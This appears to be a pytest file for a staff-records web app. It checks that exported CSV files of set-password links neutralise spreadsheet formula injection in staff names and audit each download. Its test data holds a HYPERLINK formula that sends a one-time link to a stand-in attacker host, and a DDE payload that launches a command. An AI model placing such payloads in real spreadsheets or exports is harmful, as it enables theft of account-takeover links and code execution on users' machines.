"""The set-password links file is a spreadsheet too: a name such as `=HYPERLINK(...)` beside
a live one-time link is written as text, as the workbooks write it, whichever way the file is
made (the page's download, a large import's job, `flask import-staff --links`), and every
download of it is in the audit log."""

from __future__ import annotations

import csv
import io
import re

import pytest
from sqlalchemy import select

from competency_app.accounts.audit import AuditAction
from competency_app.accounts.models import AuditEvent, Role
from competency_app.extensions import db
from tests.conftest import csrf_from, sign_in
from tests.factories import PASSWORD, commit, make_team, make_user

HOSTILE = '=HYPERLINK("https://attacker.example/?"&C2,"Click to verify")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]


@pytest.fixture
def hr(app):
    with app.app_context():
        make_team("north")
        make_user("hana.hr", Role.HR)
        commit()
    client = app.test_client()
    sign_in(client, "hana.hr@example.nhs.uk", PASSWORD)
    return client


def _roster(names: list[str], prefix: str) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["name", "email", "role", "team"])
    for n, name in enumerate(names):
        writer.writerow([name, f"{prefix}{n}@example.nhs.uk", "practitioner", "north"])
    return buffer.getvalue().encode()


def _apply(client, content: bytes):
    token = csrf_from(client.get("/admin/imports").get_data(as_text=True))
    preview = client.post(
        "/admin/imports/preview",
        data={"csrf_token": token, "kind": "roster", "file": (io.BytesIO(content), "s.csv")},
        content_type="multipart/form-data",
    )
    assert preview.status_code == 200, preview.get_data(as_text=True)[:2000]
    pending = re.search(r'name="token" value="([^"]+)"', preview.get_data(as_text=True))
    assert pending
    return token, client.post(
        "/admin/imports/apply", data={"csrf_token": token, "token": pending.group(1)}
    )


def _names_in(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["name", "email", "set-password link"]
    assert all("/set-password/" in row[2] for row in rows[1:])
    return [row[0] for row in rows[1:]]


def _downloads(app) -> list[dict]:
    with app.app_context():
        return [
            event.detail or {}
            for event in db.session.scalars(
                select(AuditEvent).where(
                    AuditEvent.action == AuditAction.PASSWORD_LINKS_DOWNLOADED.value
                )
            )
        ]


def test_the_pages_links_file_writes_formula_names_as_text_and_is_audited(app, hr):
    token, done = _apply(hr, _roster([HOSTILE, *OTHERS], "p"))
    assert done.status_code == 200
    response = hr.post("/admin/imports/links.csv", data={"csrf_token": token})
    assert response.status_code == 200
    names = _names_in(response.get_data(as_text=True))
    assert names == ["'" + name for name in [HOSTILE, *OTHERS]]
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)
    assert _downloads(app) == [{"links": 4}]


def test_a_jobs_links_file_writes_formula_names_as_text_and_each_download_is_audited(
    app, hr, tmp_path
):
    saved = app.config["IMPORT_JOB_ROWS"], app.config["JOBS_DIR"]
    app.config["IMPORT_JOB_ROWS"], app.config["JOBS_DIR"] = 2, str(tmp_path / "jobs")
    try:
        _token, response = _apply(hr, _roster([HOSTILE, *OTHERS], "j"))
        assert response.status_code == 303 and "/jobs/" in response.headers["Location"]
        download = hr.get(response.headers["Location"] + "/download")
        assert download.status_code == 200
        assert _names_in(download.get_data(as_text=True))[0] == "'" + HOSTILE
        job_id = int(response.headers["Location"].rsplit("/", 1)[1])
        assert _downloads(app) == [{"job": job_id}]
    finally:
        app.config["IMPORT_JOB_ROWS"], app.config["JOBS_DIR"] = saved


def test_the_commands_links_file_writes_formula_names_as_text(app, runner, hr, tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_bytes(_roster([HOSTILE], "c"))
    links = tmp_path / "links.csv"
    result = runner.invoke(args=["import-staff", str(roster), "--links", str(links)])
    assert result.exit_code == 0, result.output
    assert _names_in(links.read_text(encoding="utf-8")) == ["'" + HOSTILE]
